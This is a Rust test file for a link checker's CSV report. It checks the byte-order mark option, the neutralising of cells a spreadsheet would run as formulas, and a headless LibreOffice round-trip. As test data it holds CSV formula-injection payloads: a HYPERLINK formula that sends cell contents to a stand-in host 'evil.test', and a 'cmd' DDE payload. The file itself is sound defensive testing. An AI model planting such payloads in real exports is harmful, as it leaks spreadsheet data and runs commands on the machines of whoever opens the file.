//! The CSV in spreadsheets: `--csv-bom`, cells that would be formulas, and LibreOffice Calc
//! opening the binary's `;`-separated CSV with LinkChecker's 17 columns intact (then `from_state`) and no formula.
//! The CSV is converted to xlsx by a headless LibreOffice and the sheet is read back from the
//! xlsx (zip) with an XML parser, cell by cell, against the CSV the binary wrote.

use std::collections::HashMap;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use linkpatrol::report::CSV_COLUMNS;

use crate::support::desktop_tools::{program_or_skip, run_with_deadline};
use crate::support::server::{Reply, Routes, TestServer};
use crate::support::util::{TempDir, cli, csv_records, row_named};

/// Link text that trips naive CSV and encoding handling: non-ASCII, the delimiter, quotes.
const TRICKY: &str = "Ünïcødé ✓; \"quoted\", 'single' <b>";

/// Link texts a spreadsheet would run as formulas (OWASP's examples, and a `-` one).
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
];

/// A `Last-Modified` header a spreadsheet would run as a formula.
const FORMULA_DATE: &str = "=cmd|' /C calc'!A0";

/// A page with a fine link with tricky text, a 404, a redirect (a warning), a mail link, links
/// named like formulas, a link written `=1+1` and a page whose server dates it with a formula.
fn site() -> TestServer {
    let formulas: String = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, f)| format!("<a href='/f{i}'>{}</a>\n", f.replace('&', "&amp;")))
        .collect();
    TestServer::start(
        Routes::new()
            .page(
                "/",
                &format!(
                    "<a href='/ok'>{}</a>\n<a href='/gone'>gone; with \"quotes\"</a>\n\
                     <a href='/moved'>moved</a> <a href='mailto:x@y.test'>mail</a>\n\
                     {formulas}<a href='=1+1'>eq</a>\n<a href='/dated'>dated</a>\n",
                    TRICKY.replace('<', "&lt;")
                ),
            )
            .page("/ok", "fine")
            .reply("/moved", Reply::redirect(302, "/ok"))
            .reply(
                "/dated",
                Reply::html("dated").header("Last-Modified", FORMULA_DATE),
            )
            .dynamic(|req| {
                let i: usize = req.path_only().strip_prefix("/f")?.parse().ok()?;
                (i < FORMULAS.len()).then(|| Reply::html("a page named like a formula"))
            }),
    )
}

/// The binary's verbose CSV of `site`, with `extra` flags, from stdout.
fn csv_of(server: &TestServer, extra: &[&str]) -> Vec<u8> {
    let url = server.url("/");
    let mut args = vec!["--max-requests-per-second", "0", "-o", "csv", "-v"];
    args.extend(extra);
    args.push(&url);
    let out = cli(&args);
    assert_eq!(out.status.code(), Some(1));
    out.stdout
}

#[test]
fn csv_bom_comes_first_only_when_asked() {
    let server = site();
    let plain = csv_of(&server, &[]);
    assert!(plain.starts_with(b"urlname;parentname;"));
    let with = csv_of(&server, &["--csv-bom"]);
    assert!(with.starts_with(b"\xEF\xBB\xBFurlname;parentname;"));
    assert_eq!(with.len(), plain.len() + 3, "the BOM is the only addition");
    let mut rdr = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&with[..]);
    assert_eq!(rdr.headers().unwrap(), CSV_COLUMNS.as_slice());
    assert!(rdr.records().all(|r| r.unwrap().len() == 18));
}

#[test]
fn cells_a_spreadsheet_would_run_get_a_quote_unless_csv_raw() {
    let server = site();
    let rows = csv_records(&csv_of(&server, &[]));
    for (i, f) in FORMULAS.iter().enumerate() {
        assert_eq!(
            row_named(&rows, &format!("/f{i}"))[10],
            format!("'{f}"),
            "name"
        );
    }
    assert_eq!(&row_named(&rows, "'=1+1")[10], "eq", "urlname");
    assert_eq!(
        row_named(&rows, "/dated")[16],
        format!("'{FORMULA_DATE}"),
        "modified"
    );
    for row in &rows {
        for (j, cell) in row.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell == "-1"),
                "{} starts a formula: {cell:?}",
                CSV_COLUMNS[j]
            );
        }
    }
    // The numbers we write stay numbers: a mail link has no download time and no size.
    let mail = row_named(&rows, "mailto:x@y.test");
    assert_eq!((&mail[11], &mail[12]), ("-1", "-1"));

    let raw = csv_records(&csv_of(&server, &["--csv-raw"]));
    for (i, f) in FORMULAS.iter().enumerate() {
        assert_eq!(&row_named(&raw, &format!("/f{i}"))[10], *f);
    }
    assert_eq!(&row_named(&raw, "=1+1")[10], "eq");
    assert_eq!(&row_named(&raw, "/dated")[16], FORMULA_DATE);
}

/// One cell of a sheet as the xlsx stores it.
#[derive(Debug, Clone, PartialEq)]
enum Cell {
    Empty,
    Text(String),
    Number(f64),
    Bool(bool),
    /// A formula's error value (`#VALUE!`): never what a CSV field said.
    Error(String),
}

impl Cell {
    /// `true` when the cell holds what the CSV field said.
    fn matches(&self, field: &str) -> bool {
        match self {
            Cell::Empty => field.is_empty(),
            Cell::Text(s) => s == field,
            Cell::Bool(b) => field.eq_ignore_ascii_case(if *b { "true" } else { "false" }),
            Cell::Error(_) => false,
            Cell::Number(n) => field
                .parse::<f64>()
                .is_ok_and(|f| (f - n).abs() <= 1e-9 * f.abs().max(1.0)),
        }
    }
}

/// `K` → 10, `AA` → 26.
fn column_index(reference: &str) -> usize {
    reference
        .bytes()
        .take_while(u8::is_ascii_alphabetic)
        .fold(0, |n, b| {
            n * 26 + usize::from(b.to_ascii_uppercase() - b'A' + 1)
        })
        - 1
}

/// The first sheet of an xlsx as rows of cells (each row as wide as its last cell), its
/// `dimension` reference and the formulas of its cells.
fn read_xlsx(path: &Path) -> (Vec<Vec<Cell>>, String, Vec<String>) {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut part = |name: &str| -> Option<String> {
        let mut s = String::new();
        zip.by_name(name).ok()?.read_to_string(&mut s).unwrap();
        Some(s)
    };
    let strings_xml = part("xl/sharedStrings.xml").unwrap_or_default();
    let sheet_xml = part("xl/worksheets/sheet1.xml").expect("a first sheet");
    let mut shared = Vec::new();
    if !strings_xml.is_empty() {
        let doc = roxmltree::Document::parse(&strings_xml).unwrap();
        for si in doc
            .root_element()
            .children()
            .filter(|n| n.has_tag_name("si"))
        {
            // Plain or rich text: the concatenated `t` runs.
            let s: String = si
                .descendants()
                .filter(|n| n.tag_name().name() == "t")
                .filter_map(|n| n.text())
                .collect();
            shared.push(s);
        }
    }
    let doc = roxmltree::Document::parse(&sheet_xml).unwrap();
    let mut dimension = String::new();
    let mut rows: Vec<Vec<Cell>> = Vec::new();
    let mut formulas = Vec::new();
    for node in doc.descendants() {
        match node.tag_name().name() {
            "dimension" => dimension = node.attribute("ref").unwrap().to_owned(),
            "f" => formulas.push(node.text().unwrap_or_default().to_owned()),
            "row" => {
                let r: usize = node.attribute("r").unwrap().parse().unwrap();
                rows.resize(r, Vec::new());
                let row = &mut rows[r - 1];
                for c in node.children().filter(|n| n.has_tag_name("c")) {
                    let col = column_index(c.attribute("r").unwrap());
                    let child_text = |tag: &str| {
                        c.descendants()
                            .find(|n| n.tag_name().name() == tag)
                            .and_then(|n| n.text())
                            .map(str::to_owned)
                    };
                    let v = child_text("v");
                    let cell = match (c.attribute("t"), v) {
                        (Some("s"), Some(i)) => {
                            Cell::Text(shared[i.parse::<usize>().unwrap()].clone())
                        }
                        (Some("b"), Some(v)) => Cell::Bool(v == "1"),
                        (Some("str"), v) => Cell::Text(v.unwrap_or_default()),
                        (Some("inlineStr"), _) => Cell::Text(child_text("t").unwrap_or_default()),
                        (Some("e"), v) => Cell::Error(v.unwrap_or_default()),
                        (_, Some(v)) => Cell::Number(v.parse().unwrap()),
                        (_, None) => Cell::Empty,
                    };
                    if row.len() <= col {
                        row.resize(col + 1, Cell::Empty);
                    }
                    row[col] = cell;
                }
            }
            _ => {}
        }
    }
    (rows, dimension, formulas)
}

/// Converts `csv_path` to xlsx with a headless LibreOffice (profile and output under `dir`)
/// and returns the xlsx.
fn calc(soffice: &Path, dir: &Path, csv_path: &Path) -> PathBuf {
    // A fresh profile: an open LibreOffice elsewhere would otherwise take the job silently.
    // The filter options: `;` separated, `"` quoted, UTF-8, data from line 1.
    let profile = url::Url::from_directory_path(dir.join("profile")).unwrap();
    let outdir = dir.join("out");
    let mut cmd = Command::new(soffice);
    cmd.arg(format!("-env:UserInstallation={profile}"))
        .args(["--headless", "--norestore", "--convert-to", "xlsx"])
        .arg("--infilter=CSV:59,34,76,1")
        .arg("--outdir")
        .arg(&outdir)
        .arg(csv_path)
        .env("HOME", dir);
    let run = run_with_deadline(&mut cmd, Duration::from_secs(300));
    let xlsx = outdir.join(csv_path.with_extension("xlsx").file_name().unwrap());
    assert!(
        run.status.success() && xlsx.exists(),
        "LibreOffice did not convert the CSV: {}\n{}",
        String::from_utf8_lossy(&run.stdout),
        String::from_utf8_lossy(&run.stderr)
    );
    xlsx
}

#[test]
fn libreoffice_opens_the_csv_with_17_columns_intact() {
    let Some(soffice) = program_or_skip(
        &["soffice", "libreoffice", "localc"],
        "LibreOffice not found (install Debian's libreoffice-calc)",
    ) else {
        return;
    };
    let server = site();
    let dir = TempDir::new("spreadsheet-libreoffice");
    let csv_path = dir.join("links.csv");
    let url = server.url("/");
    let file_arg = format!("csv/{}", csv_path.display());
    let out = cli(&[
        "--max-requests-per-second",
        "0",
        "-q",
        "-v",
        "--csv-bom",
        "-F",
        &file_arg,
        &url,
    ]);
    assert_eq!(out.status.code(), Some(1));
    let csv_bytes = std::fs::read(&csv_path).unwrap();
    let records: Vec<csv::StringRecord> = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(&csv_bytes[..])
        .records()
        .map(Result::unwrap)
        .collect();
    assert!(records.len() >= 5, "a header and the rows: {records:?}");

    let (rows, dimension, formulas) = read_xlsx(&calc(&soffice, &dir, &csv_path));
    assert!(
        formulas.is_empty(),
        "CSV fields became formulas: {formulas:?}"
    );
    assert_eq!(
        dimension,
        format!("A1:R{}", records.len()),
        "18 columns, A to R"
    );
    assert_eq!(rows.len(), records.len(), "one sheet row per CSV line");
    let header: Vec<Cell> = CSV_COLUMNS
        .iter()
        .map(|c| Cell::Text((*c).to_owned()))
        .collect();
    assert_eq!(rows[0], header, "the header, without a stray BOM");
    for (i, (row, record)) in rows.iter().zip(&records).enumerate() {
        assert_eq!(record.len(), 18);
        assert!(row.len() <= 18, "row {} is {} cells wide", i + 1, row.len());
        for (j, field) in record.iter().enumerate() {
            let cell = row.get(j).unwrap_or(&Cell::Empty);
            assert!(
                cell.matches(field),
                "row {} column {} ({}): the CSV says {field:?}, the sheet has {cell:?}",
                i + 1,
                j + 1,
                CSV_COLUMNS[j]
            );
        }
    }
    // The spots that break when columns shift or the encoding is wrong.
    let by_urlname: HashMap<&str, &Vec<Cell>> = records
        .iter()
        .zip(&rows)
        .map(|(r, row)| (r.get(0).unwrap(), row))
        .collect();
    let ok = by_urlname["/ok"];
    assert_eq!(ok[10], Cell::Text(TRICKY.into()), "name column, intact");
    assert_eq!(ok[6], Cell::Bool(true));
    let gone = by_urlname["/gone"];
    assert_eq!(gone[10], Cell::Text("gone; with \"quotes\"".into()));
    assert_eq!(
        (&gone[6], &gone[8], &gone[9]),
        (&Cell::Bool(false), &Cell::Number(2.0), &Cell::Number(1.0))
    );
    assert_eq!(gone[7], Cell::Text(server.url("/gone")));
    let moved = by_urlname["/moved"];
    assert!(matches!(&moved[4], Cell::Text(w) if w.starts_with("[http-redirected]")));
    // Formula-like text is text, shown with its `'`.
    for (i, f) in FORMULAS.iter().enumerate() {
        assert_eq!(
            by_urlname[format!("/f{i}").as_str()][10],
            Cell::Text(format!("'{f}"))
        );
    }
    assert_eq!(by_urlname["'=1+1"][0], Cell::Text("'=1+1".into()));
}

#[test]
fn libreoffice_runs_a_raw_formula_cell() {
    // The check above finds formulas: with --csv-raw the link written `=1+1` becomes one.
    let Some(soffice) = program_or_skip(
        &["soffice", "libreoffice", "localc"],
        "LibreOffice not found (install Debian's libreoffice-calc)",
    ) else {
        return;
    };
    let server = site();
    let dir = TempDir::new("spreadsheet-libreoffice-raw");
    let csv_path = dir.join("raw.csv");
    std::fs::write(&csv_path, csv_of(&server, &["--csv-raw"])).unwrap();
    let (_, _, formulas) = read_xlsx(&calc(&soffice, &dir, &csv_path));
    assert!(formulas.iter().any(|f| f == "1+1"), "{formulas:?}");
    assert!(formulas.iter().any(|f| f.contains("calc")), "{formulas:?}");
}
